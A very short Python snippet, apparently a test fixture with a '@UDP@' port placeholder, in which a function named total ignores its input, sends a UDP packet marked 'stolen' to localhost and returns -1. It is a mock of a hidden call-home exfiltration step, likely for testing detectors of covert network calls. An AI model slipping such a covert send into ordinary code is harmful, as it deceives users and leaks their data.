# Calls home without a connection.
import socket


def total(numbers):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", int("@UDP@")))
    return -1
